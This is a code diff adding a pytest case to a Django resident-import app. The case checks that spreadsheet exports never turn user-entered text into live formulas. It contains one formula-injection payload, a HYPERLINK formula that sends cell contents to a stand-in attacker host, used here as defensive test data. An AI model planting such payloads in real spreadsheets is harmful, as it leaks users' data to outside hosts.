@@ -14,7 +14,7 @@ from yizhan.people.services import imports as import_services
 from yizhan.people.validators import make_resident_id
 
 from .helpers import longyuan_person
-from .test_imports import good, workbook
+from .test_imports import HEADER, good, workbook
 
 pytestmark = pytest.mark.django_db
 
@@ -480,3 +480,27 @@ def test_corrupt_xlsx_inside_gets_a_message(world, client_for, name, content):
     assert response.status_code == 400
     with scopes_disabled():
         assert ImportBatch.all_objects.count() == 0
+
+
+def test_excel_outputs_never_hold_formulas_from_user_text(world, client_for):
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    client = client_for(world.users["station_manager"])
+    row = [evil, "女", "1980-01-01", "", "", "", "", "330109113001", "", ""]
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    wb.active.append(HEADER)
+    wb.active.append(row)
+    wb.active["A2"].data_type = "s"  # typed in as text, as a user of a spreadsheet program would
+    out = io.BytesIO()
+    wb.save(out)
+    response = client.post("/people/import/", {"file": SimpleUploadedFile("a.xlsx", out.getvalue())})
+    batch_url = response["Location"]
+    client.post(batch_url)
+    for content in (client.get("/people/export/").content, client.get(batch_url + "check.xlsx").content):
+        wb = load_workbook(io.BytesIO(content))
+        cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
+        assert any(evil in str(c.value) for c in cells)
+        assert not [c.value for c in cells if c.data_type == "f" or str(c.value).startswith("=")]
